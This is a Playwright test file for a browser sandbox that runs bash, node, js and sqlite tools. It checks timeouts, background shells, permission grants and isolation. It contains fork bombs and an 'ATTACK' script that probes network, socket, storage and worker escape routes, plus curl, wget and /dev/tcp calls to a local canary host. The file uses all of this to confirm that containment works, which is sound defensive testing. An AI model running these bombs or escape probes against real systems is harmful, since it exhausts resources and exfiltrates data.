import type { Page } from '@playwright/test';
import type { ExecuteToolResult } from '../../src/core/call.ts';
import { startCanary, type Canary } from '../support/browsers/canary.ts';
import { callTool, type CallOptions } from '../support/journeys/journeys.ts';
import { emptyWorkspace, withOnePage } from '../support/one-page.ts';
import { appUrl, expect, test } from '../support/test.ts';

/** One page for all tests, since Node is loaded once. */
let page: Page;
withOnePage((opened) => (page = opened), { timeout: 120_000 });
test.beforeEach(async () => await emptyWorkspace(page));

const bash = async (
  command: string,
  more: Readonly<Record<string, unknown>> = {},
  options: CallOptions = {},
): Promise<ExecuteToolResult> => await callTool(page, 'bash', { command, ...more }, options);
const write = async (path: string, text: string): Promise<void> =>
  await page.evaluate(([to, content]) => window.toolyard.workspace.writeFile(to, content), [path, text] as const);
const read = async (path: string): Promise<string> =>
  await page.evaluate((from) => window.toolyard.workspace.readFile(from), path);
const list = async (): Promise<string[]> => await page.evaluate(() => window.toolyard.workspace.list());

test('output in its order, exit codes, environment, newlines and braces, the working directory', async () => {
  const { success, result } = await bash(
    'echo one; echo two >&2; for i in {3..4}; do\n  echo "{$i}"\ndone\nX="a b" node -e ' +
      '\'console.log(process.env.X); console.error("err")\'; ls /none; exit 7',
  );
  expect(success).toBe(true);
  expect(result).toBe('one\ntwo\n{3}\n{4}\na b\nerr\nls: /none: No such file or directory\nExit code: 7');
  await write('/app/a.txt', 'x');
  expect(await bash('pwd; ls; cd /; false', { working_directory: '/app' })).toMatchObject({
    result: '/app\na.txt\nExit code: 1',
    details: { exitCode: 1, workingDirectory: '/' },
  });
  expect(await bash('cat <<EOF\n${HOME} `echo sub` $((1+2)) "q" \\n\nEOF')).toMatchObject({
    result: '/home/user sub 3 "q" \\n\n',
    details: { exitCode: 0 },
  });
  expect(await bash('x', { working_directory: '/none' })).toMatchObject({
    success: false,
    error: 'There is no folder /none',
  });
});

test('what a command changes lands, also when it exits with 1, and commands of the workspace are found', async () => {
  await write('/data.json', '{"n":[1,2]}');
  await write('/node_modules/.bin/hello', '#!/usr/bin/env node\nconsole.log("hello", ...process.argv.slice(2));\n');
  await write('/tools/greet', '#!/bin/bash\necho "greet $1"\n');
  const made = await bash(
    'jq -c .n data.json; mkdir -p out; echo kept > out/a; rm data.json; chmod +x /node_modules/.bin/hello ' +
      '/tools/greet; hello world; ./tools/greet you; gzip -k out/a; gunzip -c out/a.gz; exit 1',
  );
  expect(made).toMatchObject({
    success: true,
    result: '[1,2]\nhello world\ngreet you\nkept\nExit code: 1',
    changes: { state: 'landed' },
  });
  expect(await list()).toEqual(['/node_modules/.bin/hello', '/out/a', '/out/a.gz', '/tools/greet']);
  expect(await bash('hello again')).toMatchObject({ result: 'hello again\n' });
});

test(
  'the timeout answers with what was written, and its changes land; Stop takes them back',
  { tag: '@slow' },
  async () => {
    const late = await bash(
      'echo begun > /begun; echo first; node -e "console.log(\'second\'); setInterval(() => {}, 1000)"; echo never',
      { timeout: 5000 },
    );
    expect(late).toMatchObject({
      success: false,
      errorCode: 'timeout',
      error: 'Tool execution timed out after 5000ms\n\nOutput until then:\nfirst\nsecond\n',
    });
    expect(await list()).toEqual(['/begun']);
    const stopped = await page.evaluate(async () => {
      const controller = new AbortController();
      const call = window.toolyard.executeTool({
        toolName: 'bash',
        parameters: { command: 'echo x > /stopped; echo seen; sleep 60' },
        signal: controller.signal,
      });
      setTimeout(() => controller.abort(), 2000);
      return await call;
    });
    expect(stopped).toMatchObject({ success: false, errorCode: 'aborted' });
    expect(await list()).toEqual(['/begun']);
  },
);

const BOMBS = [
  'while true; do :; done',
  "node -e \"const { fork } = require('child_process'); require('fs').writeFileSync('/b.js', 'for (;;) { try { " +
    'require(\\"child_process\\").fork(\\"/b.js\\") } catch {} }\'); fork(\'/b.js\')"',
  'node -e "for (;;);"',
  'f() { f | f & }; f',
];

async function tryBombs(commands: readonly string[]): Promise<void> {
  for (const command of commands) {
    const { success, errorCode } = await bash(command, { timeout: 1500 });
    // A bomb may end by its own limits.
    if (!success) expect(['timeout', 'crashed']).toContain(errorCode);
  }
}

test('other loops and bombs', { tag: '@slow' }, async () => {
  await tryBombs(BOMBS.slice(2));
});

test('loops, fork bombs and floods are ended, and the page goes on', { tag: '@slow' }, async () => {
  await tryBombs(BOMBS.slice(0, 2));
  const flood = await bash('while true; do echo "line of a flood of lines"; done', { timeout: 4000 });
  expect(flood).toMatchObject({ success: false, errorCode: 'timeout' });
  expect(flood.error).toContain('line of a flood of lines\nline of a flood of lines\n');
  expect(await bash('echo alive')).toMatchObject({ result: 'alive\n' });
});

test('shells in the background: output since the last look, kill, and what they changed', async () => {
  const started = await bash(
    'for i in 1 2 3; do echo "tick $i"; sleep 0.3; done; echo done > /ended; echo over; sleep 60',
    { run_in_background: true },
  );
  expect(started).toMatchObject({
    success: true,
    details: { shellId: expect.stringMatching(/^shell_\d+$/) as unknown },
  });
  const id = String(started.details?.['shellId']);
  let seen = '';
  await expect(async () => {
    const { result } = await callTool(page, 'shell_output', { shell_id: id });
    seen += String(result).replace(`${id} is running.`, '');
    expect(seen).toBe('tick 1\ntick 2\ntick 3\nover\n');
  }).toPass({ timeout: 20_000 });
  expect(await callTool(page, 'kill_shell', { shell_id: id })).toMatchObject({ result: `${id} was killed.` });
  expect(await read('/ended')).toBe('done\n');
  expect(await callTool(page, 'shell_output', { shell_id: id })).toMatchObject({ result: `${id} was killed.` });
  expect(await callTool(page, 'kill_shell', { shell_id: 'shell_999' })).toMatchObject({
    success: false,
    errorCode: 'threw',
  });
});

test('node and js over the workspace', async () => {
  await write(
    '/lib.mjs',
    'export const twice = (n) => 2 * n;\nif (process.argv[2]) console.log(process.argv[2], twice(4));\n',
  );
  expect(
    await callTool(page, 'node', {
      script: "import { twice } from '/lib.mjs'; console.log(await Promise.resolve(twice(3)));",
    }),
  ).toMatchObject({ result: '6\n' });
  expect(await callTool(page, 'node', { file: '/lib.mjs', args: ['word'] })).toMatchObject({ result: 'word 8\n' });
  expect(await callTool(page, 'node', { script: 'process.exit(3)' })).toMatchObject({
    success: true,
    result: 'Exit code: 3',
  });
  expect(await callTool(page, 'node', {})).toMatchObject({ success: false, errorCode: 'invalid-input' });
  expect(
    await callTool(page, 'js', {
      code: "({ n: 1 + 1, files: (await import('node:fs')).readdirSync('/').filter((name) => name.endsWith('.mjs')) })",
    }),
  ).toMatchObject({ result: { n: 2, files: ['lib.mjs'] } });
  expect(
    await callTool(page, 'js', {
      code: "const fs = require('fs'); fs.writeFileSync('/made', 'x'); return fs.existsSync('/made');",
    }),
  ).toMatchObject({ result: true, changes: { state: 'landed' } });
  expect(
    await callTool(page, 'js', { code: "import { twice } from '/lib.mjs';\nexport default () => twice(21);" }),
  ).toMatchObject({ result: 42 });
  expect(await callTool(page, 'js', { code: 'throw new Error("boom")' })).toMatchObject({
    success: false,
    errorCode: 'threw',
    error: 'boom',
  });
});

test(
  'sqlite: queries, the shell, a dropped database, changes from two sides, and loops',
  { tag: '@slow' },
  async () => {
    const query = async (
      text: string,
      more: Readonly<Record<string, unknown>> = {},
      options: CallOptions = {},
    ): Promise<ExecuteToolResult> =>
      await callTool(page, 'sqlite_query', { database: '/shop.db', query: text, ...more }, options);
    expect(
      await query('CREATE TABLE t(id INTEGER PRIMARY KEY, name TEXT); INSERT INTO t(name) VALUES (?), (?)', {
        params: ['a', 'b'],
      }),
    ).toMatchObject({ success: true, result: { changes: 2, lastInsertRowid: 2 } });
    expect(await query('SELECT * FROM t WHERE name = :name', { params: { name: 'b' } })).toMatchObject({
      result: [{ id: 2, name: 'b' }],
    });
    expect(await query('SELECT 1 AS one; SELECT 2 AS two')).toMatchObject({ result: [[{ one: 1 }], [{ two: 2 }]] });
    expect(await bash(`sqlite3 /shop.db "INSERT INTO t(name) VALUES ('c'); SELECT count(*) FROM t"`)).toMatchObject({
      result: '3\n',
    });
    expect(await query('SELECT name FROM t WHERE id = 3')).toMatchObject({ result: [{ name: 'c' }] });
    // Like a dropped file: bytes at another path.
    await page.evaluate(async () =>
      window.toolyard.workspace.writeFile(
        '/dropped.sqlite',
        await window.toolyard.workspace.readFile('/shop.db', 'bytes'),
      ),
    );
    expect(
      await callTool(page, 'sqlite_query', { database: 'dropped.sqlite', query: 'SELECT count(*) AS n FROM t' }),
    ).toMatchObject({ result: [{ n: 3 }] });
    const both = await Promise.all(
      [1, 2, 3].map(async (n) => await query(`INSERT INTO t(name) VALUES ('p${String(n)}')`)),
    );
    expect(both.map(({ success }) => success)).toEqual([true, true, true]);
    expect(await query('SELECT count(*) AS n FROM t')).toMatchObject({ result: [{ n: 6 }] });
    expect(await query('SELECT * FROM missing')).toMatchObject({
      success: false,
      errorCode: 'threw',
      error: expect.stringContaining('no such table') as unknown,
    });
    expect(
      await query(
        'WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT max(n) FROM c',
        {},
        { timeout: 1500 },
      ),
    ).toMatchObject({ success: false, errorCode: 'timeout' });
    await write('/text.db', 'not a database, only text that is long enough to be read as the header of one'.repeat(20));
    expect(await callTool(page, 'sqlite_query', { database: '/text.db', query: 'SELECT 1' })).toMatchObject({
      success: false,
      error: expect.stringContaining('not a database') as unknown,
    });
  },
);

test.describe('from inside bash', () => {
  let canary: Canary;
  test.beforeAll(async () => {
    canary = await startCanary();
  });
  test.afterAll(async () => {
    await canary.close();
  });

  test('nothing leaves, the app’s stores and origin are out of reach, and what was asked for is said', async () => {
    await page.evaluate(() => localStorage.setItem('planted', 'mark-of-the-app'));
    const url = canary.main.url;
    await write('/attack.mjs', ATTACK);
    const denied = await bash(
      `node /attack.mjs ${url} ${appUrl()}; curl -s ${url}/curl; wget ${url}/wget; cat < ` +
        `/dev/tcp/127.0.0.1/${String(canary.main.port)}; sh -c 'node -e "fetch(process.argv[1])" ${url}/nested'`,
      { timeout: 60_000 },
    );
    expect(denied).toMatchObject({
      success: false,
      errorCode: 'denied',
      details: {
        requested: { network: expect.arrayContaining([expect.objectContaining({ origin: url })]) as unknown },
      },
    });
    expect(denied.error).not.toContain('mark-of-the-app');
    expect(denied.error).not.toContain('REACHED');
    expect(denied.error).toContain('attack done');
    expect(canary.events()).toEqual([]);
    expect(await page.evaluate(() => localStorage.getItem('planted'))).toBe('mark-of-the-app');
  });

  test('a grant to bash lets what it names pass, and no more', async () => {
    const origin = canary.main.url;
    await page.evaluate(
      (to) =>
        window.toolyard.grants.set('bash', {
          network: [{ origin: to, methods: ['GET'], pathPrefix: '/api/' }],
          files: 'none',
          secrets: [],
          dom: false,
        }),
      origin,
    );
    expect(
      await bash(`node -e "fetch('${origin}/api/x').then(async (r) => console.log(await r.text()))"`),
    ).toMatchObject({ success: true, result: expect.stringContaining('reached') as unknown });
    expect(await bash(`node -e "fetch('${origin}/other')"`)).toMatchObject({ success: false, errorCode: 'denied' });
    expect(
      canary
        .events()
        .filter(({ kind }) => kind === 'http')
        .map(({ path }) => path),
    ).toEqual(['/api/x']);
    await page.evaluate(() =>
      window.toolyard.grants.set('bash', { network: [], files: 'none', secrets: [], dom: false }),
    );
  });
});

test('the terminal: output as it comes, history, the folder one went to, Stop', async () => {
  await write('/src/a.ts', 'x');
  await page.evaluate(() => (location.hash = '#/builtin/bash'));
  const terminal = page.getByRole('region', { name: 'Terminal', exact: true });
  const line = terminal.getByRole('textbox', { name: 'Command line' });
  const log = terminal.getByRole('log');
  await line.fill('cd src; ls');
  await line.press('Enter');
  await expect(log).toContainText('a.ts');
  await expect(terminal.getByText('/src $').last()).toBeVisible();
  await line.fill('echo first; sleep 60');
  await line.press('Enter');
  await expect(log).toContainText('first');
  await terminal.getByRole('button', { name: 'Stop' }).click();
  await expect(log).toContainText('Stopped');
  await line.press('ArrowUp');
  await line.press('ArrowUp');
  await expect(line).toHaveValue('cd src; ls');
  await line.press('ArrowDown');
  await expect(line).toHaveValue('echo first; sleep 60');
});

/** Tries every way out it knows, and prints `REACHED` for each that worked. */
const ATTACK = `
const [, , url, app] = process.argv;
const within = (work) =>
  Promise.race([work, new Promise((_, no) => setTimeout(() => no(new Error('late')), 4000))]);
const attempt = async (name, work) => {
  try {
    const got = await within(Promise.resolve().then(work));
    if (got) console.log('REACHED', name, String(got));
  } catch {}
};
const { default: http } = await import('node:http');
const { default: net } = await import('node:net');
const { default: dgram } = await import('node:dgram');
const { default: vm } = await import('node:vm');
const get = (to) =>
  new Promise((yes, no) =>
    http
      .get(to, (answer) => {
        answer.resume();
        yes(answer.statusCode < 400 && answer.statusCode);
      })
      .on('error', no),
  );
await Promise.all([
  attempt('fetch', async () => (await fetch(url + '/fetch')).status),
  attempt('fetch of the app', async () => (await fetch(app + '/')).status),
  attempt('http', () => get(url + '/http')),
  attempt(
    'socket',
    () =>
      new Promise((yes, no) => {
        const to = new URL(url);
        const s = net.connect(Number(to.port), to.hostname, () => s.write('GET /socket HTTP/1.0\\r\\n\\r\\n'));
        s.on('data', (b) => yes(/ 2\\d\\d /.test(String(b)) && b));
        s.on('error', no);
      }),
  ),
  attempt(
    'udp',
    () =>
      new Promise((yes) => {
        const s = dgram.createSocket('udp4');
        s.on('error', () => yes(false));
        s.send('x', Number(new URL(url).port), '127.0.0.1', () => yes(false));
      }),
  ),
  attempt('import', () => import(url + '/import.mjs')),
  attempt('importScripts', () => vm.runInThisContext('importScripts')(url + '/scripts')),
  attempt('XMLHttpRequest', () => {
    const X = (0, eval)('XMLHttpRequest');
    const x = new X();
    x.open('GET', url + '/xhr', false);
    x.send();
    return x.status;
  }),
  attempt(
    'WebSocket',
    () =>
      new Promise((yes, no) => {
        const s = new ((0, eval)('WebSocket'))(url.replace('http', 'ws') + '/ws');
        s.onopen = () => yes('open');
        s.onerror = no;
      }),
  ),
  attempt('localStorage', () => (0, eval)('localStorage').getItem('planted')),
  attempt('indexedDB', () =>
    (0, eval)('indexedDB')
      .databases()
      .then((all) => all.map(({ name }) => name).join()),
  ),
  attempt('caches', () =>
    (0, eval)('caches')
      .keys()
      .then((keys) => keys.join()),
  ),
  attempt('opfs', () => (0, eval)('navigator').storage.getDirectory()),
  attempt(
    'worker',
    () =>
      new Promise((yes, no) => {
        const blob = new Blob([
          'postMessage(1); fetch(' +
            JSON.stringify(url + '/worker') +
            ').then((r) => postMessage("status " + r.status))',
        ]);
        const w = new ((0, eval)('self.Worker'))(URL.createObjectURL(blob));
        w.onmessage = ({ data }) => String(data).startsWith('status') && yes(data);
        w.onerror = no;
      }),
  ),
]);
console.log('attack done');
process.exit(0);
`;
